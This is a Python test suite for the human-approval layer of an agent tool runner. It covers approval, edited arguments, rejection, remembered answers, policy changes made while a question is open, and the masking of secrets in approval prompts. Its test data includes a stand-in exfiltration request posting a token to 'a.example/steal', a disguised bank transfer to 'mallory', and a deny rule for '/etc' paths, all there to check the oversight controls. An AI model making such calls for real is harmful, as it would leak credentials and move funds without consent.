"""What a person answers holds: approve, edit, reject, respond, and remember."""

from collections.abc import Mapping
from typing import Any

from dovetail.events.call import ToolCall
from dovetail.policy import Policy, PolicyRule
from dovetail.tools import CallOutcome, Kind, RunContext, ToolRunner, ToolSnapshot, make_tool

LABEL = "*** (secret 1, 8 characters)"


async def write(path: str, text: str = "") -> str:
    return f"{path}: {text}"


class Person:
    """Answers each question with the next answer."""

    def __init__(self, *answers: Mapping[str, Any] | Exception) -> None:
        self.answers = list(answers)
        self.asked: list[Mapping[str, Any]] = []

    async def ask(
        self, kind: str, call_id: str, payload: Mapping[str, Any], seconds: float | None
    ) -> Mapping[str, Any]:
        self.asked.append(payload)
        answer = self.answers.pop(0)
        if isinstance(answer, Exception):
            raise answer
        return answer


async def call(
    person: Person, runner: ToolRunner | None = None, run: str = "run", **arguments: Any
) -> CallOutcome:
    tools = ToolSnapshot.of([make_tool(write, kind=Kind.Write, display_name="Write a file")])
    scope = RunContext(ask=person.ask, run_path=(run,), agent_path=("main",), owner="ann")
    made = ToolCall(call_id="1", name="write", arguments=arguments or {"path": "a"})
    return await (runner or ToolRunner()).run_call(tools, made, scope)


async def test_question_says_what_would_happen() -> None:
    person = Person({"approved": True})
    assert (await call(person)).status == "ok"
    assert person.asked == [
        {
            "tool": "write",
            "title": "Write a file",
            "kind": "write",
            "args": {"path": "a"},
            "reason": "it may change something outside",
            "agent_path": ["main"],
        }
    ]


async def test_edited_arguments_are_validated_and_judged_again() -> None:
    policy = Policy(
        [PolicyRule(action="deny", tool="write", arguments={"path": "/etc/.*"}, reason="not there")]
    )
    runner = ToolRunner(policy)
    edited = await call(Person({"approved": True, "edited_args": {"path": "b", "text": 3}}), runner)
    assert edited.result.data == "b: 3"
    wrong = await call(Person({"approved": True, "edited_args": {"text": "x"}}), runner)
    assert (wrong.status, wrong.result.error and wrong.result.error.type) == ("error", "invalid_tool_params")
    denied = await call(Person({"approved": True, "edited_args": {"path": "/etc/x"}}), runner)
    assert denied.status == "denied"
    assert "is not allowed with the edited arguments: not there" in str(denied.result.llm_content)


async def test_rejection_and_its_words_reach_the_model() -> None:
    outcome = await call(Person({"approved": False, "value": "use another name"}))
    assert outcome.status == "denied"
    assert "declined this call of 'write' and said: use another name" in str(outcome.result.llm_content)


async def test_only_a_clear_yes_is_a_yes() -> None:
    for answer in ({}, {"approved": "yes"}, {"approved": 1}, {"value": True}, {"approved": None}):
        assert (await call(Person(answer))).status == "denied"


async def test_time_out_and_broken_channel_do_not_run_the_call() -> None:
    assert (await call(Person({"status": "timeout"}))).status == "timeout"
    broken = await call(Person(ConnectionError("gone")))
    assert broken.status == "denied"
    assert "The approval could not be requested: gone" in str(broken.result.llm_content)


async def test_remembered_answer_is_not_asked_for_again() -> None:
    runner = ToolRunner()
    person = Person({"approved": True, "remember": "always"}, {"approved": False}, {"approved": False})
    assert (await call(person, runner)).status == "ok"
    assert (await call(person, runner, run="other")).status == "ok"
    assert len(person.asked) == 1
    assert (await call(person, runner, path="b")).status == "denied"
    assert (await call(person, runner, path="a", text="more")).status == "denied"


async def test_answer_for_the_run_holds_for_the_run_alone() -> None:
    runner = ToolRunner()
    person = Person({"approved": True, "remember": "run"}, {"approved": False})
    assert (await call(person, runner)).status == "ok"
    assert (await call(person, runner)).status == "ok"
    assert (await call(person, runner, run="other")).status == "denied"


async def test_rule_that_is_added_while_the_question_is_open_denies_the_approved_call() -> None:
    runner = ToolRunner(policy := Policy())

    class Operator(Person):
        async def ask(
            self, kind: str, call_id: str, payload: Mapping[str, Any], seconds: float | None
        ) -> Mapping[str, Any]:
            policy.add(PolicyRule(action="deny", tool="write", reason="no more of this"))
            return await super().ask(kind, call_id, payload, seconds)

    outcome = await call(Operator({"approved": True, "remember": "always"}), runner)
    assert outcome.status == "denied"
    assert "no more of this. The rules have changed" in str(outcome.result.llm_content)
    assert [rule for rule in policy.rules if rule.source == "remembered"] == []


async def test_rule_that_is_added_while_another_call_of_the_turn_waits_denies_the_first() -> None:
    runner = ToolRunner(policy := Policy())
    wrote: list[str] = []

    async def ask(kind: str, call_id: str, payload: Mapping[str, Any], seconds: float | None) -> Any:
        if call_id == "2":
            policy.add(PolicyRule(action="deny", arguments={"path": "1"}))
        return {"approved": True}

    def keep(path: str) -> None:
        wrote.append(path)

    tools = ToolSnapshot.of([make_tool(keep, name="write", kind=Kind.Write)])
    calls = [ToolCall(call_id=name, name="write", arguments={"path": name}) for name in ("1", "2")]
    outcomes = await runner.run_batch(tools, calls, RunContext(ask=ask))
    assert ([outcome.status for outcome in outcomes], wrote) == (["denied", "ok"], ["2"])


async def test_question_shows_no_secret_and_the_call_gets_it() -> None:
    seen: list[Mapping[str, Any]] = []

    async def log_in(password: str, user: str = "ann") -> str:
        seen.append({"password": password, "user": user})
        return "done"

    def show(arguments: dict[str, Any], context: Any) -> dict[str, str]:
        return {"kind": "command", "command": f"login {arguments['password']}"}

    tool = make_tool(log_in, kind=Kind.Write, preview=show)
    for answer in ({"approved": True}, {"approved": True, "edited_args": {"password": LABEL, "user": "bob"}}):
        person = Person(answer)
        scope = RunContext(ask=person.ask, run_path=("run",), agent_path=("main",), owner="ann")
        made = ToolCall(call_id="1", name="log_in", arguments={"password": "hunter22"})
        assert (await ToolRunner().run_call(ToolSnapshot.of([tool]), made, scope)).status == "ok"
        assert person.asked[0]["args"] == {"password": LABEL}
        assert person.asked[0]["preview"]["command"] == f"login {LABEL}"
        assert "hunter22" not in str(person.asked)
    assert seen == [{"password": "hunter22", "user": "ann"}, {"password": "hunter22", "user": "bob"}]


async def test_a_secret_argument_does_not_hide_the_target_of_its_call() -> None:
    async def send(url: str, headers: dict[str, str]) -> str:
        return url

    def show(arguments: dict[str, Any], context: Any) -> dict[str, str]:
        return {"kind": "request", "method": "POST", "url": f"{arguments['url']} {arguments['headers']}"}

    person = Person({"approved": False})
    tools = ToolSnapshot.of([make_tool(send, kind=Kind.Write, preview=show)])
    arguments = {"url": "https://a.example/steal", "headers": {"X-Token": "a.example/steal"}}
    made = ToolCall(call_id="1", name="send", arguments=arguments)
    await ToolRunner().run_call(tools, made, RunContext(ask=person.ask))
    assert (
        person.asked[0]["preview"]["url"]
        == "https://a.example/steal {'X-Token': '*** (secret 1, 15 characters)'}"
    )


async def test_an_edit_moves_no_secret_to_another_account_and_sends_no_mask() -> None:
    saved: list[Any] = []

    async def save(accounts: list[dict[str, str]]) -> str:
        saved.append(accounts)
        return "saved"

    tools = ToolSnapshot.of([make_tool(save, kind=Kind.Write)])
    ann, bob = {"user": "ann", "password": "ANN-PASS"}, {"user": "bob", "password": "BOB-PASS"}
    seen = [{**ann, "password": LABEL}, {**bob, "password": LABEL.replace("1", "2")}]
    lost = {"user": "bob", "password": "***"}
    outcomes: list[CallOutcome] = []
    for accounts in (seen[::-1], seen[1:], [lost]):
        person = Person({"approved": True, "edited_args": {"accounts": accounts}})
        made = ToolCall(call_id="1", name="save", arguments={"accounts": [ann, bob]})
        outcomes.append(await ToolRunner().run_call(tools, made, RunContext(ask=person.ask)))
        assert person.asked[0]["args"] == {"accounts": seen}
    assert saved == [[bob, ann], [bob]]
    assert outcomes[-1].status == "error"
    assert "Cannot restore the masked value in `accounts[].password`" in str(outcomes[-1].result.llm_content)


async def test_a_call_cannot_hide_what_it_does_under_the_name_of_a_secret() -> None:
    async def post(url: str, body: dict[str, Any], secret_name: str) -> str:
        return url

    person = Person({"approved": False})
    arguments = {
        "url": "https://bank.example",
        "body": {"token": {"action": "transfer", "to": "mallory"}},
        "secret_name": "production-db",
    }
    made = ToolCall(call_id="1", name="post", arguments=arguments)
    tools = ToolSnapshot.of([make_tool(post, kind=Kind.Write)])
    await ToolRunner().run_call(tools, made, RunContext(ask=person.ask))
    assert person.asked[0]["args"] == arguments
